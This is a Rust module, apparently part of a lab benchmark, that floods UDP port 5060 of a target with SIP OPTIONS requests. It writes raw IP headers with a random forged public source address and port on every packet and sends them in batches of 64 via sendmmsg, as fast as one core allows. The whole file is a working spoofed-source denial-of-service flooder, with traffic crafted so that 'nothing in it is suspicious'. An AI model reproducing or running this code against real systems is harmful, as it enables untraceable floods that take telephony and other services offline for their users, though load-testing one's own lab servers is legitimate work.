//! Datagrams with forged sources, as fast as one core can make them.

use std::io::IoSlice;
use std::net::Ipv4Addr;
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use anyhow::{Context as _, Result};
use rustix::io::Errno;
use rustix::net::addr::SocketAddrArg as _;
use rustix::net::{
    AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketAddrV4, SocketType, ipproto, sendmmsg,
    socket,
};
use rustix::thread::{CpuSet, sched_setaffinity};

/// Datagrams of one system call.
const BATCH: usize = 64;
/// Stands in the message for a number that no two have in common.
const NUMBER: &[u8] = b"0123456789abcdef";
/// The IPv4 header without options, and the UDP header behind it.
const HEADERS: usize = 28;
const SOURCE: usize = 12;
const SOURCE_PORT: usize = 20;

/// Sends OPTIONS requests to port 5060 of `target`, each from another source, until it is told to stop, and counts them in
/// `sent`. Belongs on a thread in the attacker's namespace, which it ties to the first processor.
pub(in crate::bench) fn flood(target: Ipv4Addr, sent: &AtomicU64, stop: &AtomicBool) -> Result<()> {
    let mut first = CpuSet::new();
    first.set(0);
    sched_setaffinity(None, &first).context("cannot tie the flood to one processor")?;
    // A socket of `IPPROTO_RAW` takes the IP header as it is written, the source included, see raw(7).
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))
        .context("cannot open a raw socket")?;
    let template = packet(target, &options(target));
    let places: Vec<usize> = (0..template.len())
        .filter(|at| template.get(*at..).is_some_and(|rest| rest.starts_with(NUMBER)))
        .collect();
    let mut packets = vec![template; BATCH];
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    while !stop.load(Ordering::Relaxed) {
        for packet in &mut packets {
            renew(packet, &places, &mut random);
        }
        sent.fetch_add(send(&raw, target, &packets)?, Ordering::Relaxed);
    }
    Ok(())
}

/// How many of `packets` the kernel took.
fn send(raw: &OwnedFd, target: Ipv4Addr, packets: &[Vec<u8>]) -> Result<u64> {
    let address = SocketAddrV4::new(target, 0).as_any();
    let slices: Vec<[IoSlice<'_>; 1]> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
    let mut controls: Vec<SendAncillaryBuffer<'_, '_, '_>> =
        packets.iter().map(|_| SendAncillaryBuffer::default()).collect();
    let mut messages: Vec<MMsgHdr<'_>> = slices
        .iter()
        .zip(&mut controls)
        .map(|(slice, control)| MMsgHdr::new_with_addr(&address, slice, control))
        .collect();
    match sendmmsg(raw, &mut messages, SendFlags::empty()) {
        Ok(count) => Ok(count as u64),
        // A full queue on the way is what a flood meets.
        Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => Ok(0),
        Err(error) => Err(error).context("cannot send"),
    }
}

/// Gives a packet another source and another number.
fn renew(packet: &mut [u8], places: &[usize], random: &mut Random) {
    let mut put = |at: usize, bytes: &[u8]| {
        if let Some(place) = packet.get_mut(at..at + bytes.len()) {
            place.copy_from_slice(bytes);
        }
    };
    put(SOURCE, &random.address().octets());
    let number = random.next();
    let port = 1024 + (number >> 32) % 64_000;
    put(SOURCE_PORT, &u16::try_from(port).unwrap_or(5060).to_be_bytes());
    let mut digits = [0; NUMBER.len()];
    for (place, digit) in digits.iter_mut().enumerate() {
        let four = (number >> (4 * place)) & 15;
        *digit = NUMBER.get(four as usize).copied().unwrap_or(b'0');
    }
    for at in places {
        put(*at, &digits);
    }
}

/// What a phone or a monitoring program asks; nothing in it is suspicious.
fn options(target: Ipv4Addr) -> String {
    format!(
        "OPTIONS sip:{target} SIP/2.0\r\n\
         Via: SIP/2.0/UDP h0123456789abcdef.example.net:5060;branch=z9hG4bK0123456789abcdef;rport\r\n\
         Max-Forwards: 70\r\nFrom: <sip:1000@{target}>;tag=0123456789abcdef\r\nTo: <sip:{target}>\r\n\
         Call-ID: 0123456789abcdef@example.net\r\nCSeq: 1 OPTIONS\r\nContact: <sip:1000@h0123456789abcdef.example.net>\r\n\
         User-Agent: Acme Phone 5.2\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n"
    )
}

/// IPv4 and UDP headers before `text`. The kernel fills in the header's checksum; UDP over IPv4 needs none (RFC 768).
fn packet(target: Ipv4Addr, text: &str) -> Vec<u8> {
    let length = |more: usize| u16::try_from(text.len() + more).unwrap_or(u16::MAX).to_be_bytes();
    let mut packet = vec![0x45, 0];
    packet.extend(length(HEADERS));
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0, 0, 0, 0, 0]);
    packet.extend(target.octets());
    packet.extend([0, 0]);
    packet.extend(5060u16.to_be_bytes());
    packet.extend(length(8));
    packet.extend([0, 0]);
    packet.extend(text.as_bytes());
    packet
}

/// xorshift64*.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// Any address that a host in the Internet may have, but none of the lab's networks.
    fn address(&mut self) -> Ipv4Addr {
        loop {
            let [a, b, c, d, ..] = self.next().to_be_bytes();
            let special = a == 0 || a == 10 || a == 127 || a >= 224 || d == 0 || d == 255;
            let lab = matches!((a, b, c), (192, 0, 2) | (198, 51, 100) | (203, 0, 113));
            if !special && !lab {
                return Ipv4Addr::new(a, b, c, d);
            }
        }
    }
}
